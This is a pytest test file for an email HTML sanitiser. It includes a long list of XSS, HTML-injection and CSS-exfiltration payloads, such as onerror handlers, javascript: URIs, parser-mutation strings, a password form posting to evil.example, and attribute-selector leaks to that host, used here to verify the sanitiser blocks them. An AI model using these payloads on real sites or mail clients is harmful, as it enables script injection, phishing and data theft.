from __future__ import annotations

import re

import lxml.html
import pytest
from tests.support.budget import bounded_work

from rapport.channels.email import allowlist, html

ATTACKS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img/src="x"/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example"><input name=password><button>Sign in</button></form>
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html,x">
<img src="javascript:alert(1)">
<img srcset="https://evil.example/1.png 1x">
<picture><source srcset="https://evil.example/1.png"></picture>
<video src="https://evil.example/a.mp4" poster="https://evil.example/a.png" autoplay></video>
<audio src="https://evil.example/a.mp3"></audio>
<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">x</table>
<body background="https://evil.example/a.png" onload=alert(1)>x</body>
<div style="background:url(https://evil.example/a.png)">x</div>
<div style="background-image:url('https://evil.example/a.png')">x</div>
<div style="background:u\\72l(https://evil.example/a.png)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="-moz-binding:url(x.xml#a)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">phish</div>
<div style="position:absolute;z-index:9999">phish</div>
<div style="content:url(https://evil.example/a.png)">x</div>
<div style="background:image-set('https://evil.example/a.png' 1x)">x</div>
<div style="color:red;/*x*/position:/**/fixed">x</div>
<div style="margin-left:-9999px">x</div>
<style>@import url(https://evil.example/x.css);</style>
<style>body{background:url(https://evil.example)}</style>
<template><img src=x onerror=alert(1)></template>
<textarea><img src=x onerror=alert(1)></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)>x</details>
<a href="https://x.example" ping="https://evil.example" onclick=alert(1)>x</a>
<img src="cid:x&quot; onerror=alert(1) x=&quot;">
<img src="https://evil.example/a.png&quot; onerror=&quot;alert(1)">
<p id="x" class="y" name="location" contenteditable tabindex=1 accesskey=x draggable=true>x</p>
<style>*{position:fixed;inset:0;background:url(//evil.example/a);color:red}</style><p>x</p>
<style>p{background:url("https://evil.example/a.png")}@import "https://evil.example/x.css";</style><p>x</p>
<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}p{font-family:x}</style><p>x</p>
<style>input[value^=a]{background:url(//evil.example/a)}</style><input value=a>
<style>p{b\\61 ckground:u\\72l(//evil.example/a)}</style><p>x</p>
<style>p:before{content:"phish"}p{color:red}</style><p>x</p>
<style></style><img title="</style><img src=x onerror=alert(1)>">
<style><img src="</style><img src=x onerror=alert(1)//">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]>
<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,x#y"></svg>
<select><template><img src=x onerror=alert(1)></template></select>
<a href="https:\\\\evil.example" style="background:var(--x)">x</a>
<a href="//evil.example">x</a><a href="/settings">x</a><a href="?x">x</a><a href="#x">x</a>
<link rel=dns-prefetch href=//evil.example><link rel=prerender href=//evil.example>
<div style="color:red;background:URL(//evil.example)">x</div>
<div style="background:-webkit-image-set(url(//evil.example) 1x)">x</div>
<div style="margin:-1rem;text-indent:-99rem;margin-top:- 9px;width:calc(100vw*9)">x</div>
<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" lowsrc=//evil.example dynsrc=//x.example>
<input type=image src=https://evil.example/a.png>
<frameset><frame src=javascript:alert(1)></frameset>
<portal src=https://evil.example></portal><fencedframe src=//evil.example></fencedframe>
<plaintext><script>alert(1)</script>
""".strip().splitlines()

BAD = re.compile(
    r"<(?:script|iframe|object|embed|form|input|button|link|meta|base|svg|math|style|video|audio|source|body|template)\b"
    r"|<[^>]*\son\w+\s*=|javascript:|vbscript:|data:(?!image/(?:png|jpe?g|gif|webp);)|url\(|expression\(|position:"
    r"|(?<!data-remote-)src=\"(?!\"|/|data:image)|srcset|poster|background=\"|ping=",
    re.IGNORECASE,
)


def tags_of(cleaned: str) -> str:
    return "".join(re.findall(r"<[a-z/](?:[^>\"]|\"[^\"]*\")*>", cleaned))


@pytest.mark.parametrize("attack", ATTACKS)
def test_in_18_nothing_runs_and_nothing_is_fetched(attack):
    cleaned = html.clean(f"<p>before</p>{attack}", {"logo": "/files/1"})
    # Inside a title or an alt the words are harmless, so values of attributes that show text are set aside.
    shown = re.sub(r' (?:title|alt|data-remote-src)="[^"]*"', "", tags_of(cleaned))
    assert not BAD.search(shown), cleaned
    assert "before" in cleaned
    assert html.clean(cleaned).count("<script") == 0
    composed = html.clean_composed(attack)
    assert not BAD.search(tags_of(composed)) and "<img" not in composed


SHOWN = {"src", "href", "style", "alt", "title", "data-remote-src", "rel", "target", "dir", "lang", "align"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_in_18_a_browsers_tree_holds_nothing_but_what_is_allowed(attack):
    """What a parser builds counts, not what the text looks like; built twice, since a tree may mutate when written."""
    cleaned = html.clean(f"<p>before</p>{attack}")
    for _ in range(2):
        tree = lxml.html.fragment_fromstring(cleaned, create_parent="div")
        for element in tree.iter():
            assert isinstance(element.tag, str) and element.tag in allowlist.TAGS, cleaned
            known = allowlist.ATTRIBUTES.get(element.tag, set()) | SHOWN
            assert set(element.attrib) <= known, cleaned
            link, source, style = (element.get(name, "") for name in ("href", "src", "style"))
            assert re.match(r"(?:https?:|mailto:|tel:|\Z)", link), cleaned
            assert re.match(r"(?:data:image/(?:png|jpe?g|gif|webp);base64,|\Z)", source), cleaned
            names = {one.partition(":")[0].strip() for one in style.split(";") if one.strip()}
            assert names <= allowlist.STYLES and "evil" not in style and "url" not in style.lower(), cleaned
        cleaned = html.clean(lxml.html.tostring(tree, encoding="unicode"))


def test_in_18_a_style_sheet_keeps_its_look_on_the_elements():
    cleaned = html.clean(
        "<html><head><style>@media print{p{color:blue}} "
        ".big > td{padding:8px;position:fixed} p{color:#123456!important}"
        "</style></head><body><table><tr class=big><td>x</td></tr></table><p style='color:red'>y</p></body></html>"
    )
    assert "padding:8px" in cleaned.replace(" ", "") and "#123456" in cleaned
    assert "position" not in cleaned and "<style" not in cleaned and "class" not in cleaned and "blue" not in cleaned


def test_in_18_remote_images_are_counted():
    cleaned = html.clean('<img src="https://a.example/1"><img src="cid:x"><img src="http://a.example/2">')
    assert html.remote_images(cleaned) == 2


@pytest.mark.parametrize(
    "sheet",
    [
        ":not(" * 50_000,
        "p{" * 50_000,
        "a,b>c d~e+f{color:red}" * 9000,
        "p{" + "color:red;" * 19_000 + "}",
        "@media x{" * 40_000,
        "/*" * 99_000,
    ],
)
def test_in_17_hostile_style_sheets_take_bounded_work(sheet):
    with bounded_work():
        assert "words" in html.clean(f"<style>{sheet}</style>" + "<p>words</p>" * 500)


def test_in_18_images():
    cleaned = html.clean(
        '<img src="cid:logo@acme"><img src="https://x.example/p.gif?a=1&amp;b=2" alt="a>b" width=1>'
        '<img src="data:image/png;base64,AAAA"><img src="cid:other">',
        {"<logo@acme>": '/files/1?"x'},
    )
    assert '<img src="/files/1?&quot;x">' in cleaned
    assert '<img src="" data-remote-src="https://x.example/p.gif?a=1&amp;b=2" alt="a&gt;b" width="1">' in cleaned
    assert '<img src="data:image/png;base64,AAAA">' in cleaned
    assert cleaned.endswith('<img src="">')


def test_in_18_links_and_styles():
    cleaned = html.clean('<a href="https://x.example" style="color:RED; width:10px;position:fixed">x</a>')
    assert 'target="_blank"' in cleaned and 'rel="noopener noreferrer"' in cleaned
    assert "position" not in cleaned and "width:10px" in cleaned and "color:" in cleaned


def test_in_18_a_newsletter_keeps_its_shape():
    mail = (
        '<table width="600" cellpadding=0 bgcolor="#fff"><tr><td align=center style="padding:4px">Hi</td></tr></table>'
    )
    cleaned = html.clean(mail)
    assert all(piece in cleaned for piece in ('width="600"', 'bgcolor="#fff"', 'align="center"', "padding:4px", "<td"))


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 200_000,
        "<p>" + "".join(f"<font color=c{n}>" for n in range(900)) + "</p>" + "<p>x" * 100_000,
        "<!--" * 200_000,
        "<script>" * 200_000,
        "<a" * 200_000,
        "<table><tr><td>" * 3000,
        "x" * 5_000_000,
    ],
    ids=["deep", "formats", "comments", "scripts", "unclosed", "tables", "long"],
)
def test_in_17_html_bombs_end_in_text(bomb):
    with bounded_work():
        html.clean(bomb)
        html.to_text(bomb)
        html.clean_composed(bomb)
        html.quote_split(bomb)


def test_composed_html_keeps_the_editors_tags_only():
    assert html.clean_composed(
        '<p dir="rtl" style="color:red" class=x><b>a</b><i>b</i><u>c</u><span>d</span></p><h1>e</h1>'
        '<ul><li>f</li></ul><a href="https://x.example" target=_blank>g</a><a href="/rel">h</a><a href="ftp://x">i</a>'
    ) == (
        '<p dir="rtl"><strong>a</strong><em>b</em><u>c</u>d</p>e<ul><li>f</li></ul>'
        '<a href="https://x.example">g</a><a>h</a><a>i</a>'
    )


def test_text_and_html_there_and_back():
    made = html.from_text("Hello <Ada> & co\nsee https://x.example/a?b=1&c=2.\n\nBye")
    assert made == (
        '<p>Hello &lt;Ada&gt; &amp; co<br>see <a href="https://x.example/a?b=1&amp;c=2">https://x.example/a?b=1&amp;c=2</a>.</p>\n'
        "<p>Bye</p>"
    )
    assert html.to_text(made) == "Hello <Ada> & co\nsee https://x.example/a?b=1&c=2.\n\nBye"
    assert html.to_text("") == html.from_text("") == ""
    assert html.to_text("<style>x{}</style><p>a\x00b</p><ul><li>c</ul>").split() == ["ab", "*", "c"]


REPLY = "<div>Yes, Tuesday.</div>"
QUOTES = {
    "gmail": '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 2 Mar 2026 Ada wrote:<br></div>'
    '<blockquote class="gmail_quote">When?</blockquote></div>',
    "gmail new": '<div class="gmail_quote gmail_quote_container"><div>Am 2.3.2026 schrieb Ada:</div>'
    "<blockquote>Wann?</blockquote></div>",
    "apple": '<blockquote type="cite"><div>On 2 Mar 2026, at 9:05, Ada wrote:</div><div>When?</div></blockquote>',
    "outlook web": '<div id="appendonsend"></div><hr><div id="divRplyFwdMsg"><b>From:</b> Ada</div><div>When?</div>',
    "outlook": '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in">'
    "<p><b>From:</b> Ada</p></div>When?",
    "thunderbird": '<div class="moz-cite-prefix">On 02.03.26 Ada wrote:</div>'
    '<blockquote type="cite">When?</blockquote>',
    "yahoo": '<div id="yahoo_quoted_1" class="yahoo_quoted"><div>On Monday Ada wrote:</div><div>When?</div></div>',
    "old outlook": "<p>-----Original Message-----<br>From: Ada</p><p>When?</p>",
}


@pytest.mark.parametrize("quote", QUOTES.values(), ids=QUOTES)
def test_edge_43_html_quotes(quote):
    assert html.quote_split(REPLY + quote) == (REPLY, quote)


@pytest.mark.parametrize(
    "mail",
    [
        REPLY,
        QUOTES["gmail"],
        REPLY + '<blockquote type="cite">When?</blockquote>Tuesday<blockquote type="cite">Where?</blockquote>',
        REPLY + QUOTES["apple"] + "<p>and one more thing</p>",
        "<p>see my answers below</p>" + QUOTES["outlook"],
        '<p>FYI</p><div class="gmail_quote">---------- Forwarded message ---------<br>From: Cleo</div>',
        "",
    ],
)
def test_edge_43_html_in_doubt_shows_everything(mail):
    assert html.quote_split(mail) == (mail, "")
